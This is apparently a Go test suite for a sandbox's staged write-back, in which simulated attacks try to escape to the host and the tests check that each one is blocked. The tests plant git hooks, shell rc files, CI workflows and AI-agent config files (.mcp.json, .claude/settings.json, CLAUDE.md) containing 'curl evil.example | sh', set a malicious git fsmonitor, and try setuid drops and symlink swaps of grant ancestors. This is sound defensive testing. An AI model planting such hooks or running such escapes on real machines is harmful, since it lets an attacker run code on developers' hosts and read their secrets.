package sandbox_test

import (
	"bytes"
	"context"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/airlock-sandbox/airlock/internal/airtest"
	"github.com/airlock-sandbox/airlock/policy"
	"github.com/airlock-sandbox/airlock/policy/budget"
	"github.com/airlock-sandbox/airlock/sandbox"
)

// Writable grants are staged and copied back (internal/writeback): these
// tests try to get past that to the host.

// gitRepo makes dir look like a git work tree the host user will run git in.
func gitRepo(t *testing.T, dir string) {
	t.Helper()
	for _, d := range []string{".git/hooks", ".git/objects", ".git/refs/heads"} {
		if err := os.MkdirAll(filepath.Join(dir, d), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	for name, data := range map[string]string{".git/HEAD": "ref: refs/heads/main\n", ".git/config": "[core]\n\tbare = false\n"} {
		if err := os.WriteFile(filepath.Join(dir, name), []byte(data), 0o644); err != nil {
			t.Fatal(err)
		}
	}
}

// snapshot records every path under dir with its content (or link target).
func snapshot(t *testing.T, dir string) map[string]string {
	t.Helper()
	out := map[string]string{}
	err := filepath.Walk(dir, func(p string, fi os.FileInfo, err error) error {
		if err != nil {
			return err
		}
		switch {
		case fi.Mode()&os.ModeSymlink != 0:
			l, _ := os.Readlink(p)
			out[p] = "-> " + l
		case fi.Mode().IsRegular():
			b, _ := os.ReadFile(p)
			out[p] = fi.Mode().String() + " " + string(b)
		default:
			out[p] = fi.Mode().String()
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	return out
}

func TestAttackPlantCodeTheHostRuns(t *testing.T) {
	requireSandbox(t)
	tr := newTree(t)
	gitRepo(t, tr.out)
	gitRepo(t, filepath.Join(tr.out, "vendored"))
	before := snapshot(t, tr.out)
	planted := []string{
		".git/hooks/post-checkout", ".git/config", ".envrc", ".bashrc", ".profile", ".gitmodules",
		".vscode/tasks.json", ".mcp.json", ".claude/settings.json", "CLAUDE.md", ".github/workflows/ci.yml",
		"vendored/.git/hooks/pre-commit", "vendored/.git/config", "deep/er/.envrc",
		"new/.git/hooks/post-checkout", "new/.git/config", "bare.git/hooks/update",
	}
	script := `
import os, stat
out = ` + "%q" + `
ok, refused = [], []
for rel in ` + "%q" + `.split():
    p = os.path.join(out, rel)
    try:
        os.makedirs(os.path.dirname(p), exist_ok=True)
        with open(p, "a") as f:
            f.write("\n[core]\n\tfsmonitor = curl evil.example | sh\n" if rel.endswith("config") else "#!/bin/sh\ncurl evil.example | sh\n")
        os.chmod(p, 0o755)
        ok.append(rel)
    except OSError as e:
        refused.append((rel, e.errno))
# A gitdir pointer at a planted repository, and a repository that git
# would discover by its HEAD.
os.makedirs(os.path.join(out, "evil/hooks"), exist_ok=True)
open(os.path.join(out, "evil/HEAD"), "w").write("ref: refs/heads/x\n")
os.makedirs(os.path.join(out, "evil/objects"), exist_ok=True)
open(os.path.join(out, "evil/hooks/post-checkout"), "w").write("#!/bin/sh\nid\n")
os.makedirs(os.path.join(out, "sub"), exist_ok=True)
open(os.path.join(out, "sub/.git"), "w").write("gitdir: ../evil\n")
open(os.path.join(out, "result.txt"), "w").write("the real work\n")
print("wrote inside:", ok)
print("refused inside:", refused)
`
	rep := py(t, policy.Spec{FSWrite: []string{tr.out}}, fmt.Sprintf(script, tr.out, strings.Join(planted, " ")))
	wantExit(t, rep, 0)
	// The existing protected paths were read-only inside.
	for _, rel := range []string{".git/hooks/post-checkout", ".git/config"} {
		if !strings.Contains(rep.Stdout, "('"+rel+"', 30)") {
			t.Errorf("writing %s inside did not fail with EROFS:\n%s", rel, rep.Stdout)
		}
	}
	after := snapshot(t, tr.out)
	for _, rel := range append(planted, "evil/hooks/post-checkout", "sub/.git") {
		p := filepath.Join(tr.out, rel)
		if after[p] != before[p] {
			t.Errorf("%s reached the host: %q (was %q)", rel, after[p], before[p])
		}
	}
	if got := after[filepath.Join(tr.out, "result.txt")]; !strings.HasSuffix(got, "the real work\n") {
		t.Errorf("the run's real output did not reach the host: %q", got)
	}
	if rep.Writes == nil || rep.Writes.RefusedTotal < 10 || !rep.Writes.Complete {
		t.Fatalf("writes = %+v, want the refusals listed and the copy back complete", rep.Writes)
	}
	var denied int
	for _, d := range rep.Denials {
		if d.Op == "write back" {
			denied++
		}
	}
	if denied == 0 {
		t.Errorf("no write-back denial in the report: %+v", rep.Denials)
	}
}

func TestAttackSetuidOnHost(t *testing.T) {
	requireSandbox(t)
	airtest.RequireRoot(t) // rootless, a setuid file would belong to the caller, not root
	tr := newTree(t)
	rep := py(t, policy.Spec{FSWrite: []string{tr.out}}, `
import os, shutil, sys
out = `+"\""+tr.out+"\""+`
shutil.copy(sys.executable, out + "/py")
os.chmod(out + "/py", 0o4755)
os.mkdir(out + "/shared")
os.chmod(out + "/shared", 0o3777)
print(oct(os.stat(out + "/py").st_mode))`)
	wantExit(t, rep, 0)
	for _, rel := range []string{"py", "shared"} {
		fi, err := os.Lstat(filepath.Join(tr.out, rel))
		if err != nil {
			t.Fatalf("%s did not reach the host: %v", rel, err)
		}
		if fi.Mode()&(os.ModeSetuid|os.ModeSetgid|os.ModeSticky) != 0 {
			t.Errorf("%s reached the host as %v: a host user could run it as root", rel, fi.Mode())
		}
	}
	if rep.Writes == nil || rep.Writes.ModesDropped != 2 {
		t.Errorf("writes = %+v, want modes_dropped 2", rep.Writes)
	}
}

func TestBudgetMaxWrite(t *testing.T) {
	requireSandbox(t)
	tr := newTree(t)
	spec := policy.Spec{FSWrite: []string{tr.out}, Budget: budget.Limits{Write: 8 << 20, Memory: 128 << 20}}
	rep := py(t, spec, `
import os
f = open("`+tr.out+`/fill", "wb")
try:
    for i in range(64):
        f.write(b"x" * (1 << 20))
        f.flush()
    print("wrote 64 MiB")
except OSError as e:
    print("write failed", e.errno)
    import time
    time.sleep(30)`)
	wantExit(t, rep, 124)
	if rep.HaltedBy == nil || *rep.HaltedBy != "max_write" {
		t.Fatalf("halted_by = %v, want max_write\nstdout: %s", rep.HaltedBy, rep.Stdout)
	}
	fi, err := os.Stat(filepath.Join(tr.out, "fill"))
	if err != nil {
		t.Fatalf("the bytes written before the cap are not on the host: %v", err)
	}
	if fi.Size() > 8<<20 || rep.Usage.WriteBytes > 8<<20 {
		t.Fatalf("host file is %d bytes and write_bytes %d, want at most max_write (8 MiB)", fi.Size(), rep.Usage.WriteBytes)
	}
	if rep.Writes == nil || !rep.Writes.Complete {
		t.Fatalf("writes = %+v, want a complete copy back", rep.Writes)
	}
}

func TestAttackNestedGrantSwap(t *testing.T) {
	requireSandbox(t)
	tr := newTree(t)
	ws := tr.out
	for _, d := range []string{"a/data", "b/out"} {
		if err := os.MkdirAll(filepath.Join(ws, d), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	if err := os.WriteFile(filepath.Join(ws, "a/data/granted.txt"), []byte("granted\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	hostDir := filepath.Join(tr.root, "hostdir")
	for _, d := range []string{"data", "out"} {
		if err := os.MkdirAll(filepath.Join(hostDir, d), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	secret := filepath.Join(hostDir, "data", "secret.txt")
	cfgFile := filepath.Join(hostDir, "out", "config.sh")
	for _, f := range []string{secret, cfgFile} {
		if err := os.WriteFile(f, []byte("HOST ORIGINAL\n"), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	spec := policy.Spec{FSWrite: []string{ws, filepath.Join(ws, "b/out")}, FSRead: []string{filepath.Join(ws, "a/data")}}
	swap := `cd ` + ws + ` && mv a a.orig; ln -s ` + hostDir + ` a; mv b b.orig; ln -s ` + hostDir + ` b; ls -la; echo written > b/out/config.sh; cat a/data/secret.txt; true`
	sh(t, spec, swap, "mv", "ln", "ls", "cat")
	for _, d := range []string{"a", "b"} {
		fi, err := os.Lstat(filepath.Join(ws, d))
		if err != nil || !fi.IsDir() {
			t.Fatalf("host %s/%s is now %v (%v): the sandbox replaced an ancestor of a grant on the host", ws, d, fi, err)
		}
	}
	if b, _ := os.ReadFile(cfgFile); string(b) != "HOST ORIGINAL\n" {
		t.Fatalf("a host file outside every grant was overwritten: %q", b)
	}
	// The same policy still runs: no persistent denial of service.
	rep := sh(t, spec, "cat "+filepath.Join(ws, "a/data/granted.txt"), "cat")
	wantExit(t, rep, 0)

	// A session's file API resolves beneath the grant roots it held from
	// the start, whatever the sandbox does to the paths above them.
	s := newSession(t, policy.Spec{FSWrite: spec.FSWrite, FSRead: spec.FSRead, AllowedTools: []string{"sh", "mv", "ln"}})
	wantExit(t, execIn(t, s, sandbox.ExecRequest{Args: []string{"sh", "-c", swap}}), 0)
	if got, err := s.Guard().Read(filepath.Join(ws, "a/data/secret.txt")); err == nil || bytes.Contains(got, []byte("HOST")) {
		t.Fatalf("file API read %q, %v through the swapped ancestor: a host file outside every grant", got, err)
	}
	if got, err := s.Guard().Read(filepath.Join(ws, "a/data/granted.txt")); err != nil || string(got) != "granted\n" {
		t.Fatalf("file API read of the real grant = %q, %v; want it unaffected by the swap", got, err)
	}
	if err := s.Guard().Write(filepath.Join(ws, "b/out/config.sh"), []byte("from the API\n")); err != nil {
		t.Fatalf("file API write into the real grant: %v", err)
	}
	s.Close()
	if b, _ := os.ReadFile(cfgFile); string(b) != "HOST ORIGINAL\n" {
		t.Fatalf("the file API overwrote a host file outside every grant: %q", b)
	}
	if b, _ := os.ReadFile(filepath.Join(ws, "b/out/config.sh")); string(b) != "from the API\n" {
		t.Fatalf("the file API's write did not reach the real grant: %q", b)
	}
}

func TestAttackNestedGrantSwapRace(t *testing.T) {
	requireSandbox(t)
	tr := newTree(t)
	ws := tr.out
	if err := os.MkdirAll(filepath.Join(ws, "a/data"), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(ws, "a/data/granted.txt"), []byte("granted\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	hostDir := filepath.Join(tr.root, "hostdir", "data")
	if err := os.MkdirAll(hostDir, 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(filepath.Join(hostDir, "granted.txt"), []byte("HOST SECRET\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	s := newSession(t, policy.Spec{FSWrite: []string{ws}, FSRead: []string{filepath.Join(ws, "a/data")}, AllowedTools: []string{"sh", "mv", "ln", "rm"},
		Budget: budget.Limits{Ops: 1_000_000, OutputBytes: 64 << 20}})
	// Swap the ancestor back and forth in the background for the whole test.
	rep := execIn(t, s, sandbox.ExecRequest{Args: []string{"sh", "-c", `cd ` + ws + ` && (while :; do mv a a.orig 2>/dev/null; ln -s ` + filepath.Dir(hostDir) + ` a 2>/dev/null; rm -f a 2>/dev/null; mv a.orig a 2>/dev/null; done) >/dev/null 2>&1 &`}})
	wantExit(t, rep, 0)
	ctx, cancel := context.WithTimeout(context.Background(), 3*time.Second)
	defer cancel()
	reads := 0
	for ctx.Err() == nil && reads < 200_000 {
		got, err := s.Guard().Read(filepath.Join(ws, "a/data/granted.txt"))
		if bytes.Contains(got, []byte("HOST")) {
			t.Fatalf("read %d returned the host file through the swapped ancestor: %q", reads, got)
		}
		if err != nil {
			t.Fatalf("read %d of the held grant failed: %v", reads, err)
		}
		reads++
	}
	t.Logf("%d reads during the swap loop, all from the granted folder", reads)
}

func TestStagedWrites(t *testing.T) {
	requireSandbox(t)
	tr := newTree(t)
	for rel, data := range map[string]string{"keep.txt": "keep\n", "edit.txt": "old\n", "gone.txt": "gone\n",
		"dir/old.txt": "old\n", "moved/a.txt": "a\n"} {
		p := filepath.Join(tr.out, rel)
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte(data), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	rep := sh(t, policy.Spec{FSWrite: []string{tr.out}}, `cd `+tr.out+` && echo new >> edit.txt && rm gone.txt && rm -r dir && mkdir dir && echo fresh > dir/new.txt &&
mv moved renamed && ln -s renamed/a.txt link && mkdir -p a/b/c && echo deep > a/b/c/d.txt`, "rm", "mkdir", "mv", "ln")
	wantExit(t, rep, 0)
	got := snapshot(t, tr.out)
	want := map[string]string{
		"keep.txt": "-rw-r--r-- keep\n", "edit.txt": "-rw-r--r-- old\nnew\n", "dir/new.txt": "-rw-r--r-- fresh\n",
		"renamed/a.txt": "-rw-r--r-- a\n", "link": "-> renamed/a.txt", "a/b/c/d.txt": "-rw-r--r-- deep\n",
	}
	for rel, w := range want {
		if g := got[filepath.Join(tr.out, rel)]; g != w {
			t.Errorf("host %s = %q, want %q", rel, g, w)
		}
	}
	for _, rel := range []string{"gone.txt", "dir/old.txt", "moved"} {
		if _, ok := got[filepath.Join(tr.out, rel)]; ok {
			t.Errorf("host %s still exists: its removal was not copied back", rel)
		}
	}
	if rep.Writes == nil || !rep.Writes.Complete || rep.Writes.Removed < 3 {
		t.Errorf("writes = %+v", rep.Writes)
	}

	// A session stages its writes until it ends: the file API sees them at
	// once, the host when the session is closed.
	s := newSession(t, policy.Spec{FSWrite: []string{tr.out}, AllowedTools: []string{"sh"}})
	wantExit(t, execIn(t, s, sandbox.ExecRequest{Args: []string{"sh", "-c", "echo session > session.txt"}}), 0)
	if b, err := s.Guard().Read(filepath.Join(tr.out, "session.txt")); err != nil || string(b) != "session\n" {
		t.Fatalf("file API read of a staged file = %q, %v", b, err)
	}
	if _, err := os.Stat(filepath.Join(tr.out, "session.txt")); err == nil {
		t.Fatal("a session's write reached the host before the session ended")
	}
	s.Close()
	if b, err := os.ReadFile(filepath.Join(tr.out, "session.txt")); err != nil || string(b) != "session\n" {
		t.Fatalf("after Close, host session.txt = %q, %v", b, err)
	}
	if w := s.Writes(); w == nil || w.Files != 1 {
		t.Fatalf("Session.Writes() = %+v, want the copy back's result", w)
	}
}

// TestSingleFileWriteGrant: an fs_write grant that is one file starts (it
// failed with "lstat <file>/.git: not a directory", then with the command
// started in the file) and its write reaches the host.
func TestSingleFileWriteGrant(t *testing.T) {
	requireSandbox(t)
	tr := newTree(t)
	f := filepath.Join(tr.out, "result.txt")
	if err := os.WriteFile(f, []byte("before\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	rep := sh(t, policy.Spec{FSWrite: []string{f}}, "echo after > "+f+"; pwd")
	wantExit(t, rep, 0)
	if b, _ := os.ReadFile(f); string(b) != "after\n" || rep.Stdout != "/tmp\n" {
		t.Fatalf("file = %q, cwd = %q", b, rep.Stdout)
	}
}
